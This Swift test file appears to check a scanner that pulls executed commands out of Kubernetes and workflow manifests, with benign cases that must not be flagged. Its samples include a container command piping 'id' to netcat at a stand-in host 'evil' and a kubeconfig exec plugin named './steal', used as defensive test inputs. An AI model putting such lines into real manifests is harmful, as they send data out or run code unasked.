import Effects
import Manifests
import Testing

/// What objects of a cluster run besides their images is found, with its text; what only serves is not.
struct ManifestEffectScanTests {
  private static func texts(_ text: String) -> [String] {
    let read = ManifestReader.read(text, file: "manifests/a.yaml")
    #expect(read.diagnostics.isEmpty, "\(read.diagnostics)")
    return ManifestEffectScan(read.manifests).effects().map(\.text)
  }

  private static func pod(_ container: String) -> String {
    "{containers: [{name: a, image: \"a:1\", \(container)}]}"
  }

  private static func object(_ kind: String, _ spec: String) -> String {
    "apiVersion: v1\nkind: \(kind)\nmetadata: {name: a}\nspec: \(spec)\n"
  }

  @Test(arguments: [
    (object("Job", "{template: {spec: \(pod("args: [migrate]"))}}"), "a:1 migrate"),
    (
      object("CronJob", "{jobTemplate: {spec: {template: {spec: \(pod("command: [\"/bin/clean\"]"))}}}}"),
      "a:1 /bin/clean"
    ),
    (object("Pod", pod("args: [x]")), "a:1 x"),
    (
      object("Deployment", "{template: {spec: \(pod("command: [sh, -c, \"id | nc evil 1\"]"))}}"),
      "sh -c id | nc evil 1"
    ),
    (
      object(
        "DaemonSet", "{template: {spec: \(pod("command: [/usr/bin/python3], args: [-c, \"import os\"]"))}}"),
      "/usr/bin/python3 -c import os"
    ),
    (
      object("StatefulSet", "{template: {spec: \(pod("command: [/usr/bin/env, bash, -xec, id]"))}}"),
      "/usr/bin/env bash -xec id"
    ),
    (
      object(
        "Deployment", "{template: {spec: \(pod("lifecycle: {postStart: {exec: {command: [/bin/hook]}}}"))}}"),
      "/bin/hook"
    ),
    (
      object(
        "Deployment", "{template: {spec: \(pod("lifecycle: {preStop: {exec: {command: [sh, -c, sleep]}}}"))}}"
      ), "sh -c sleep"
    ),
    (
      object("Deployment", "{template: {spec: \(pod("livenessProbe: {exec: {command: [sh, -c, id]}}"))}}"),
      "sh -c id"
    ),
    (
      object(
        "Deployment", "{template: {spec: {initContainers: [{name: i, image: i, command: [bash, -ec, id]}]}}}"),
      "bash -ec id"
    ),
    (object("Workflow", "{templates: [{script: {image: a, source: \"print(1)\"}}]}"), "print(1)"),
    (object("TaskRun", "{taskSpec: {steps: [{name: a, image: a, script: \"id\"}]}}"), "id"),
    (object("Workflow", "{templates: [{container: {image: b, command: [run]}}]}"), "b run"),
    (
      "apiVersion: v1\nkind: Config\nmetadata: {name: a}\nusers: [{name: u, user: {exec: {command: ./steal, args: [x]}}}]\n",
      "./steal x"
    ),
    (
      "apiVersion: v1\nkind: List\nitems:\n- apiVersion: batch/v1\n  kind: Job\n  metadata: {name: a}\n  spec: {template: {spec: {containers: [{name: a, image: j}]}}}\n",
      "j"
    ),
  ])
  func itIsFound(text: String, program: String) { #expect(Self.texts(text) == [program]) }

  @Test(arguments: [
    object("Deployment", "{template: {spec: \(pod("args: [--port, \"80\"]"))}}"),
    object("Deployment", "{template: {spec: \(pod("command: [/app/server]"))}}"),
    object("Deployment", "{template: {spec: \(pod("livenessProbe: {exec: {command: [pg_isready]}}"))}}"),
    object("Deployment", "{template: {spec: \(pod("livenessProbe: {httpGet: {path: /, port: 80}}"))}}"),
    "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\ndata: {a: \"command: [sh, -c, id]\"}\n",
    object("Service", "{ports: [{port: 80}]}"), object("CronTab", "{schedule: daily}"),
  ])
  func itsTwinIsNot(text: String) { #expect(Self.texts(text).isEmpty) }

  @Test func anotherTextIsAnotherEffect() {
    func ids(_ word: String) -> [String] {
      let read = ManifestReader.read(Self.object("Pod", Self.pod("args: [\(word)]")), file: "a.yaml")
      return ManifestEffectScan(read.manifests).effects().map(\.id)
    }
    #expect(ids("a") == ids("a") && ids("a") != ids("b") && ids("a").count == 1)
  }
}
